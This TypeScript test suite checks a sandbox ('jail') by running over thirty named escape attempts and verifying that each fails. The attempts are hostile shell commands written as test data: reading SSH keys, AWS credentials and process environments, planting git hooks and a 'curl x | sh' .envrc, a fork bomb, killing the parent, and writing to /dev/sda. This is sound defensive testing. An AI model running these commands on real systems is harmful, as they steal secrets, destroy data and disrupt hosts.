// The jail-escape suite: named attempts that must all fail inside the jail. Each checks the outcome
// from outside (a file that must not exist, a secret that must not appear, a connection never made).
import { createSocket } from 'node:dgram';
import { execSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Executor } from '../../executor/run';
import type { JailClass, RunResult } from '../../executor/types';
import { jailFixture, type JailFixture } from '../support/jail';

let fx: JailFixture;
let ex: Executor;
let tcp: Server;
let tcpPort = 0;
let tcpConnections = 0;
let udpPort = 0;
let udpMessages = 0;
let outsideSocketConnections = 0;
let outsideSocket: Server;
const udp = createSocket('udp4');

beforeAll(async () => {
  fx = await jailFixture();
  ex = new Executor({ home: fx.home, appDirs: [fx.configDir, fx.dataDir] });
  tcp = createServer((s) => {
    tcpConnections++;
    s.end();
  });
  await new Promise<void>((r) => tcp.listen(0, '127.0.0.1', r));
  tcpPort = (tcp.address() as { port: number }).port;
  udp.on('message', () => udpMessages++);
  await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
  udpPort = udp.address().port;
  outsideSocket = createServer((s) => {
    outsideSocketConnections++;
    s.end();
  });
  await new Promise<void>((r) => outsideSocket.listen(join(fx.outside, 'host.sock'), r));
  process.env['THRESHOLD_HOST_ONLY_MARKER'] = fx.secret;
});

afterAll(async () => {
  delete process.env['THRESHOLD_HOST_ONLY_MARKER'];
  ex.dispose();
  await new Promise<void>((r) => tcp.close(() => r()));
  await new Promise<void>((r) => outsideSocket.close(() => r()));
  udp.close();
  await fx.close();
});

function attempt(script: string, cls: JailClass = 'write', limits = {}): Promise<RunResult> {
  const env = { ...process.env, HOME: fx.home, OUTSIDE: fx.outside, DATA: fx.dataDir, CONFIG: fx.configDir, WS: fx.workspace, HOSTPID: String(process.pid) };
  return ex.run({ argv: ['bash', '-c', script], cwd: fx.workspace, env, envAllow: ['OUTSIDE', 'DATA', 'CONFIG', 'WS', 'HOSTPID'], jail: { class: cls, workspace: fx.workspace }, limits: { timeoutMs: 10_000, ...limits } });
}

const output = (r: RunResult) => `${r.stdout.text}\n${r.stderr.text}`;
const outsideFile = (name: string) => join(fx.outside, name);

interface Attempt {
  name: string;
  script: () => string;
  cls?: JailClass;
  limits?: Record<string, number>;
  /** Holds when the attempt failed. */
  failed: (r: RunResult) => boolean | Promise<boolean>;
}

const attempts: Attempt[] = [
  // Writing outside the workspace.
  { name: 'write outside the workspace by absolute path', script: () => 'echo x > "$OUTSIDE/abs.txt"', failed: () => !existsSync(outsideFile('abs.txt')) },
  { name: 'write outside the workspace through ..', script: () => 'echo x > ../outside/dotdot.txt', failed: () => !existsSync(outsideFile('dotdot.txt')) },
  { name: 'write outside through a symlink that was already in the workspace', script: () => 'echo x > link-out/via-symlink.txt', failed: () => !existsSync(outsideFile('via-symlink.txt')) },
  { name: 'write outside through a new symlink', script: () => 'ln -s "$OUTSIDE/keep.txt" newlink; echo pwned >> newlink', failed: () => readFileSync(outsideFile('keep.txt'), 'utf8') === 'outside\n' },
  { name: 'write outside through a hard link', script: () => 'ln "$OUTSIDE/keep.txt" hardlink; echo pwned >> hardlink', failed: () => readFileSync(outsideFile('keep.txt'), 'utf8') === 'outside\n' },
  { name: 'bind-mount a folder outside into the workspace', script: () => 'mkdir -p mnt && mount --bind "$OUTSIDE" mnt && echo x > mnt/mounted.txt', failed: () => !existsSync(outsideFile('mounted.txt')) },
  { name: 'create a user namespace to regain mount rights', script: () => 'unshare -r -m sh -c "mount --bind $OUTSIDE $WS && echo x > $WS/ns.txt"', failed: () => !existsSync(outsideFile('ns.txt')) },
  { name: 'move the workspace away', script: () => 'mv "$WS" "$WS-moved"', failed: () => existsSync(fx.workspace) && !existsSync(`${fx.workspace}-moved`) },
  // Code that would run outside the jail later.
  { name: 'plant a git hook', script: () => 'printf "#!/bin/sh\\ntouch /tmp/pwned\\n" > .git/hooks/pre-commit', failed: () => !existsSync(join(fx.workspace, '.git', 'hooks', 'pre-commit')) },
  { name: 'point git at other hooks through .git/config', script: () => 'git config core.hooksPath /tmp/hooks', failed: () => !readFileSync(join(fx.workspace, '.git', 'config'), 'utf8').includes('hooksPath') },
  { name: 'plant a direnv .envrc', script: () => 'echo "curl x | sh" > .envrc', failed: () => !existsSync(join(fx.workspace, '.envrc')) },
  { name: 'plant a VS Code task', script: () => 'mkdir -p .vscode && echo "{}" > .vscode/tasks.json', failed: () => !existsSync(join(fx.workspace, '.vscode', 'tasks.json')) },
  // Reading credentials and the app's own files.
  { name: 'read ~/.ssh', script: () => 'cat ~/.ssh/id_ed25519; ls -la ~/.ssh', failed: (r) => !output(r).includes(fx.secret) && !output(r).includes('id_ed25519\n') },
  { name: 'read ~/.aws/credentials', script: () => 'cat ~/.aws/credentials', failed: (r) => !output(r).includes(fx.secret) },
  { name: "read the app's database", script: () => 'cat "$DATA/threshold.db"', failed: (r) => !output(r).includes(fx.secret) },
  { name: "read the app's config", script: () => 'cat "$CONFIG/threshold.toml"', failed: (r) => !output(r).includes('supervised') },
  { name: "read the workspace's .env", script: () => 'cat .env', failed: (r) => !output(r).includes(fx.secret) },
  { name: 'search the home folder for keys', script: () => 'grep -r THRESHOLD-TEST-SECRET ~ 2>/dev/null | head', failed: (r) => !r.stdout.text.includes(fx.secret) },
  { name: "read the parent process's environment through /proc", script: () => 'cat /proc/$PPID/environ; for p in /proc/[0-9]*; do tr "\\0" "\\n" < $p/environ; done 2>/dev/null', failed: (r) => !output(r).includes(fx.secret) },
  // The host's Unix sockets.
  { name: 'connect to the control socket', script: () => `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('$DATA/control.sock'); print(s.recv(100))"`, failed: () => fx.connections() === 0 },
  { name: 'connect to a host Unix socket that is visible', script: () => `python3 -c "import socket; s=socket.socket(socket.AF_UNIX); s.connect('$OUTSIDE/host.sock'); print(s.recv(100))"`, failed: () => outsideSocketConnections === 0 },
  { name: 'reach the session bus and /run', script: () => 'ls -A /run /run/user /run/dbus 2>/dev/null; test -S /run/dbus/system_bus_socket && echo BUS', failed: (r) => !r.stdout.text.includes('BUS') && r.stdout.text.replace(/\/run.*:|\s/g, '') === '' },
  // The network without the network effect.
  { name: 'reach a host TCP port', script: () => `python3 -c "import socket; socket.create_connection(('127.0.0.1', ${tcpPort}), 2)" || (exec 3<>/dev/tcp/127.0.0.1/${tcpPort}) `, failed: () => tcpConnections === 0 },
  { name: 'send a UDP datagram to the host', script: () => `python3 -c "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', ${udpPort}))"; echo x > /dev/udp/127.0.0.1/${udpPort}`, failed: async () => (await new Promise((r) => setTimeout(r, 200)), udpMessages === 0) },
  { name: 'resolve a name (DNS)', script: () => 'getent hosts example.com || python3 -c "import socket; print(socket.gethostbyname(\'example.com\'))"', failed: (r) => !/\d+\.\d+\.\d+\.\d+/.test(r.stdout.text) },
  { name: 'open a connection through /dev/tcp', script: () => `echo x > /dev/tcp/127.0.0.1/${tcpPort}`, failed: () => tcpConnections === 0 },
  // Processes.
  { name: 'leave a setsid daemon behind', script: () => 'setsid nohup sleep 98765 >/dev/null 2>&1 & disown; echo started', failed: async () => (await new Promise((r) => setTimeout(r, 200)), execSync("pgrep -f '[s]leep 98765' || true").toString().trim() === '') },
  {
    name: 'run a fork bomb',
    // The shell stays alive so the bomb runs until the timeout; the pids limit holds it, the kill ends it.
    script: () => 'bomb(){ bomb|bomb& }; bomb; sleep 30',
    limits: { maxProcesses: 64, timeoutMs: 4000, graceMs: 200 },
    failed: async (r) => {
      await new Promise((res) => setTimeout(res, 300));
      // The pattern matches the bomb's own command line, not pgrep's (nor a test runner filtered by name).
      const survivors = execSync("pgrep -c -f 'omb[(][)][{] bomb[|]bomb' || true").toString().trim();
      // The pids limit held (fork failed), or the bomb ran until the kill; either way nothing may survive.
      return (r.timedOut || /Resource temporarily unavailable|retry/.test(r.stderr.text)) && survivors === '0';
    },
  },
  { name: 'flood 10 GB of output', script: () => 'head -c 10G /dev/zero | tr "\\0" a', limits: { timeoutMs: 3000, graceMs: 200, outputCapBytes: 64 * 1024 }, failed: (r) => r.stdout.text.length < 70 * 1024 && r.stdout.truncated },
  { name: 'signal the parent', script: () => 'kill -9 $PPID; kill -9 "$HOSTPID"; kill -TERM -1; echo alive', failed: () => true },
  { name: 'ptrace a host process', script: () => `python3 -c "import ctypes; libc=ctypes.CDLL(None); print('attach', libc.ptrace(16, int('$HOSTPID'), 0, 0))"`, failed: (r) => !r.stdout.text.includes('attach 0') },
  { name: "edit the jail's own configuration", script: () => 'echo "[autonomy]" > "$CONFIG/threshold.toml"; ls /tmp/threshold-jail-* 2>/dev/null; echo x > /tmp/threshold-jail-x/filter.bpf', failed: () => readFileSync(join(fx.configDir, 'threshold.toml'), 'utf8').includes('supervised') },
  { name: 'write a raw disk', script: () => 'ls /dev; echo x > /dev/sda', failed: (r) => !r.stdout.text.split('\n').some((d) => /^(sd|nvme|vd|xvd)/.test(d)) },
];

describe('jail escapes: every attempt fails', () => {
  it('has at least 25 named attempts', () => {
    expect(attempts.length).toBeGreaterThanOrEqual(25);
  });
  it.each(attempts)('$name', async (a) => {
    const r = await attempt(a.script(), a.cls, a.limits);
    expect(await a.failed(r), `${a.name}\nstdout: ${r.stdout.text.slice(0, 500)}\nstderr: ${r.stderr.text.slice(0, 500)}`).toBe(true);
  }, 30_000);
  it('the host survived everything (the test process and its sockets still answer)', () => {
    expect(tcp.listening && outsideSocket.listening && fx.server.listening).toBe(true);
  });
});
